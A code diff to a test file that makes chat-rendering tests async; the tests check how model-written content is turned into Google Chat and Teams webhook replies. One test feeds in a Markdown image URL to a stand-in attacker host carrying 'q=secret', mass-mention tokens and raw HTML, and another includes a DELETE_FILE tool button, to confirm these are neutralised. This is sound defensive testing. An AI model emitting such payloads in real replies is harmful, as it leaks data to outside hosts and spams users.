@@ -1,15 +1,17 @@
 import { describe, expect, test } from 'vitest'
+import { describeComponents } from '../src/components/describe.ts'
 import { componentSchemas } from '../src/components/schemas.ts'
 import type { Component } from '../src/contract/component-schema.ts'
-import { textOf } from '../src/features/chat/sessions/component-text.ts'
-import { describeComponents } from '../src/contract/text/describe-component.ts'
+import { chatBlocks } from '../src/features/webhooks/cards/chat-blocks.ts'
 import { officeReply } from '../src/features/webhooks/office-chat/office-reply.ts'
 import { workspaceReply } from '../src/features/webhooks/workspace-chat/workspace-reply.ts'
 
-const blocks = (components: readonly Component[]) =>
-  describeComponents(components, { read: (one) => textOf([one]), locale: 'en' })
-const inWorkspace = (...components: Component[]) => workspaceReply(blocks(components), 'classic')
-const inOffice = (...components: Component[]) => officeReply(blocks(components))
+const blocks = async (components: readonly Component[]) => {
+  const context = { fetched: () => undefined, now: new Date(), isShared: true, locale: 'en' }
+  return chatBlocks((await describeComponents(components, context)).flat())
+}
+const inWorkspace = async (...components: Component[]) => workspaceReply(await blocks(components), 'classic')
+const inOffice = async (...components: Component[]) => officeReply(await blocks(components))
 
 const figures: Component = {
   type: 'table',
@@ -26,26 +28,25 @@ const figures: Component = {
   total_rows: 40,
 }
 
-/** They are controls without words, or hold nothing yet: there is nothing to tell of them. */
-const wordless = new Set(['divider'])
-
 describe.each(componentSchemas.map(({ type, example }) => ({ type, example })))(
   '$type',
   ({ type, example }) => {
-    test('is told in both chats by its own example', () => {
+    test('is told in both chats by its own example', async () => {
       const component = { type, ...example } as Component
-      const told = [inWorkspace(component), inOffice(component)]
+      const told = [await inWorkspace(component), await inOffice(component)]
       for (const reply of told) {
         expect(Buffer.byteLength(JSON.stringify(reply))).toBeLessThan(28_000)
         const words = [reply['text'], reply['cardsV2'], reply['attachments']].filter(Boolean)
-        if (textOf([component]) !== '' && !wordless.has(type)) expect(words).not.toEqual([])
+        // A line alone says nothing.
+        if (type !== 'divider') expect(words).not.toEqual([])
+        expect(JSON.stringify(words)).not.toMatch(/undefined|\[object|NaN/)
       }
     })
   },
 )
 
-test('a table becomes labelled rows in Google Chat and columns in Teams, its cells written as declared', () => {
-  expect(inWorkspace({ type: 'text', text: 'Look:' }, figures)).toEqual({
+test('a table becomes labelled rows in Google Chat and columns in Teams, its cells written as declared', async () => {
+  expect(await inWorkspace({ type: 'text', text: 'Look:' }, figures)).toEqual({
     text: 'Look:',
     cardsV2: [
       {
@@ -77,7 +78,7 @@ test('a table becomes labelled rows in Google Chat and columns in Teams, its cel
       },
     ],
   })
-  const [{ contentType, content }] = inOffice(figures)['attachments'] as [
+  const [{ contentType, content }] = (await inOffice(figures))['attachments'] as [
     { contentType: string; content: { body: { type: string; columns?: object[] }[] } },
   ]
   expect(contentType).toBe('application/vnd.microsoft.card.adaptive')
@@ -95,10 +96,10 @@ test('a table becomes labelled rows in Google Chat and columns in Teams, its cel
   ])
 })
 
-test('facts become facts, also inside cards and grids', () => {
+test('facts become facts, also inside cards and grids', async () => {
   const inner: Component = { type: 'metric', label: 'Visits', value: 1284, change: 12.5, change_unit: '%' }
   const card: Component = { type: 'card', title: 'Today', children: [{ type: 'grid', children: [inner] }] }
-  expect(inOffice(card)['attachments']).toMatchObject([
+  expect((await inOffice(card))['attachments']).toMatchObject([
     {
       content: {
         body: [
@@ -110,16 +111,16 @@ test('facts become facts, also inside cards and grids', () => {
   ])
 })
 
-test('Markdown is written in the way of each chat', () => {
+test('Markdown is written in the way of each chat', async () => {
   const text = '## Title\nA **bold** word, a [link](https://example.org/a?b=1&c=2) and `x < y`.'
   const said: Component = { type: 'text', text, format: 'markdown' }
-  expect(inWorkspace(said)).toEqual({
+  expect(await inWorkspace(said)).toEqual({
     text: '*Title*\nA *bold* word, a <https://example.org/a?b=1&c=2|link> and `x < y`.',
   })
-  expect(inOffice(said)).toMatchObject({
+  expect(await inOffice(said)).toMatchObject({
     text: '**Title**\nA **bold** word, a [link](https://example.org/a?b=1&c=2) and `x < y`.',
   })
-  const [{ card }] = inWorkspace({ type: 'gauge', label: 'CPU', value: 3 }, said)['cardsV2'] as [
+  const [{ card }] = (await inWorkspace({ type: 'gauge', label: 'CPU', value: 3 }, said))['cardsV2'] as [
     { card: { sections: { widgets: object[] }[] } },
   ]
   expect(card.sections[0]!.widgets[1]).toEqual({
@@ -129,27 +130,27 @@ test('Markdown is written in the way of each chat', () => {
   })
 })
 
-test('nothing that a model writes calls people, loads pictures or becomes HTML', () => {
+test('nothing that a model writes calls people, loads pictures or becomes HTML', async () => {
   const bad =
     'Hey <users/all>, <USERS/1> ![p](https://evil.example.org/?q=secret) ![q](<https://evil.example.org/>) <img src=x>' +
     ' `<users/all>` **<users/all>** [<users/all>](https://example.org)'
-  const text = String(inWorkspace({ type: 'text', text: bad })['text'])
+  const text = String((await inWorkspace({ type: 'text', text: bad }))['text'])
   expect(text).not.toMatch(/<users\//i)
   expect(text).toContain('<https://evil.example.org/?q=secret|p>')
-  const office = String(inOffice({ type: 'text', text: bad })['text'])
+  const office = String((await inOffice({ type: 'text', text: bad }))['text'])
   expect(office).not.toMatch(/!\[/)
   expect(office).not.toMatch(/<img/)
   const picture: Component = { type: 'image', url: 'https://evil.example.org/x.png', alt: 'A picture' }
-  expect(inWorkspace(picture)).toEqual({ text: '<https://evil.example.org/x.png|A picture>' })
-  expect(JSON.stringify(inOffice(figures, picture))).not.toContain('"Image"')
+  expect(await inWorkspace(picture)).toEqual({ text: '<https://evil.example.org/x.png|A picture>' })
+  expect(JSON.stringify(await inOffice(figures, picture))).not.toContain('"Image"')
   const fact: Component = {
     type: 'key_value',
     items: [{ label: 'x', value: '<a href="https://e.org">y</a>' }],
   }
-  expect(JSON.stringify(inWorkspace(fact))).not.toContain('<a href')
+  expect(JSON.stringify(await inWorkspace(fact))).not.toContain('<a href')
 })
 
-test('buttons become links or words, and what they would run is left out', () => {
+test('buttons become links or words, and what they would run is left out', async () => {
   const open: Component = {
     type: 'button',
     label: 'Map',
@@ -157,18 +158,18 @@ test('buttons become links or words, and what they would run is left out', () =>
   }
   const ask: Component = { type: 'button', label: 'Forecast', action: { kind: 'chat', message: 'Weather' } }
   const run: Component = { type: 'button', label: 'Go', action: { kind: 'tool', tool_name: 'DELETE_FILE' } }
-  expect(inOffice(open, ask, run)).toMatchObject({
+  expect(await inOffice(open, ask, run)).toMatchObject({
     text: '[Map](https://example.org/)\n\nForecast: say “Weather”',
   })
 })
 
-test('an answer that is too long for the chat is cut, and says where the rest is', () => {
+test('an answer that is too long for the chat is cut, and says where the rest is', async () => {
   const long: Component[] = Array.from({ length: 40 }, (_, index) => ({
     type: 'key_value',
     title: `Part ${index}`,
     items: [{ label: 'text', value: 'ä'.repeat(1_500) }],
   }))
-  for (const reply of [inWorkspace(...long), inOffice(...long)]) {
+  for (const reply of [await inWorkspace(...long), await inOffice(...long)]) {
     const json = JSON.stringify(reply)
     expect(Buffer.byteLength(json)).toBeLessThanOrEqual(28_000)
     expect(json).toContain('Part 3')
@@ -176,10 +177,10 @@ test('an answer that is too long for the chat is cut, and says where the rest is
     expect(json).toContain('The rest is in Deskhand')
   }
   const text: Component = { type: 'text', text: 'word '.repeat(10_000) }
-  expect(String(inWorkspace(text)['text']).length).toBeLessThan(4_000)
+  expect(String((await inWorkspace(text))['text']).length).toBeLessThan(4_000)
 })
 
-test('patterns do not stand still on hostile text', () => {
+test('patterns do not stand still on hostile text', async () => {
   for (const piece of ['**a', '[', '![', '`', '```', '[a](http://', '# '])
-    expect(inOffice({ type: 'text', text: piece.repeat(20_000) })['text']).toBeTypeOf('string')
+    expect((await inOffice({ type: 'text', text: piece.repeat(20_000) }))['text']).toBeTypeOf('string')
 })
